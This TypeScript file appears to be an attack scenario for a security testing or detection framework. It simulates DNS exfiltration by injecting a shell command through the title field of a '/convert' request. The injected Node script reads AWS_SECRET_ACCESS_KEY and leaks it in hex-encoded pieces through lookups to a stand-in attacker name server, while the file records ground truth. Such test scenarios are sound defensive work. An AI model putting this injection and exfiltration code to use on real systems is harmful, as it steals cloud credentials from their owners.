/** Exfiltration through DNS: a secret leaves in the names that a name server of the attacker is asked for, some in each request. */
import { startNameServer } from '../attacker/nameserver.ts';
import { Truth } from '../desk/truth.ts';
import type { Outcome, Scenario, World } from '../scenario.ts';

export const dnsExfiltration: Scenario = {
  name: 'dns-exfiltration',
  what: 'a secret leaves slowly, in names asked of a name server, over two requests',
  starts: 'address',
  hosts: [],
  run,
};

/** A name holds so many hexadecimal digits of the secret; ms between two names. */
const PIECE = 10;
const PAUSE = 100;

async function run(world: World): Promise<Outcome> {
  const { random } = world;
  const address = world.address();
  const server = await startNameServer(address);
  world.atEnd(() => server.stop());
  const zone = `${random.word(7)}.example`;
  const truth = new Truth();
  const entries: string[] = [];
  for (const half of [0, 1]) {
    const agent = world.agent();
    const script =
      `const {Resolver}=require("node:dns").promises,r=new Resolver({tries:1,timeout:2000}),s=process.env.AWS_SECRET_ACCESS_KEY;` +
      `r.setServers(["${address}:${server.port}"]);const d=Buffer.from(s.slice(${half * 20},${half * 20 + 20})).toString("hex");` +
      `(async()=>{for(let i=0;i<d.length;i+=${PIECE}){await r.resolveTxt("${half}-"+i+"."+d.slice(i,i+${PIECE})+".${zone}")` +
      `.catch(()=>0);await new Promise(f=>setTimeout(f,${PAUSE}))}})()`;
    const body = { title: `${random.word(6)}";node -e '${script}';: "`, text: random.word(20) };
    const answer = await world.call('POST', '/convert', { body, agent });
    if (!server.names.some((name) => name.startsWith(`${half}-`) && name.endsWith(zone)))
      throw new Error(`no name was asked for: ${answer.status}`);
    entries.push(answer.requestId);
    truth
      .asks(`part ${half}`, 'convert', answer, agent)
      .converts(answer)
      .programs('convert', answer, 'sh -c printf', 'node -e');
    await world.turn();
  }
  const pieces = server.names.filter((name) => name.endsWith(zone)).map((name) => name.split('.')[1] ?? '');
  const secret = Buffer.from(pieces.join(''), 'hex').toString('utf8');
  if (secret.length !== 40) throw new Error(`${secret.length} of 40 characters of the secret arrived`);
  truth.endpoint(`${address}:${server.port}`);
  return { fact: { what: 'address', q: address }, entries, steps: truth.steps };
}
